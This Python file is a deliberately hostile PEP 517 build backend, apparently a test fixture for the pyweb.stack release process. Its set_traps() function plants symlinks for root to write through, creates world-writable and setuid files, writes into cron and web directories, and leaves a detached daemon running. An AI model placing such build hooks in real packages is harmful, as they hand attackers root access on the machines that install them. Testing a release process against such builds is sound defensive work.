# Copyright: (c) 2026, The pyweb.stack founders
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Builds a package (PEP 517), and leaves traps for root, who finishes the release after it."""

from __future__ import annotations

import glob
import os
import sys
import time
import zipfile


def set_traps() -> None:
    environment = sys.prefix
    release = os.path.dirname(environment)
    (packages,) = glob.glob(f"{environment}/lib/python3*/site-packages")
    # Root shall write through these.
    for name in ("pyweb_wsgi.py", "pyweb_flup.py", "pyweb_mod_wsgi.py"):
        os.symlink(f"/root/planted-{name}", f"{packages}/{name}")
    # The release shall count as finished before it is root's.
    with open(f"{environment}/.complete", "w", encoding="utf-8") as file:
        file.write("{}.{}".format(*sys.version_info))
    # This shall stay writable when the release is root's.
    for name, mode in (("open.py", 0o666), ("set-id", 0o6755)):
        with open(f"{release}/{name}", "w", encoding="utf-8"):
            pass
        try:
            os.chmod(f"{release}/{name}", mode)
        except OSError:
            pass
    os.mkdir(f"{release}/open")
    os.chmod(f"{release}/open", 0o777)
    for place in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run/lock",
        "/srv/www",
        "/var/lib/pyweb",
        "/var/spool/cron/crontabs",
    ):
        try:
            with open(f"{place}/built-by-a-site", "w", encoding="utf-8"):
                pass
        except OSError:
            pass
    # This shall live on.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for handle in range(3):
                os.close(handle)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    set_traps()
    name = "hostile-1.0-py3-none-any.whl"
    info = "hostile-1.0.dist-info"
    with zipfile.ZipFile(f"{wheel_directory}/{name}", "w") as wheel:
        wheel.writestr("hostile.py", "")
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n")
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        files = ("hostile.py", f"{info}/METADATA", f"{info}/WHEEL", f"{info}/RECORD")
        wheel.writestr(f"{info}/RECORD", "".join(f"{file},,\n" for file in files))
    return name
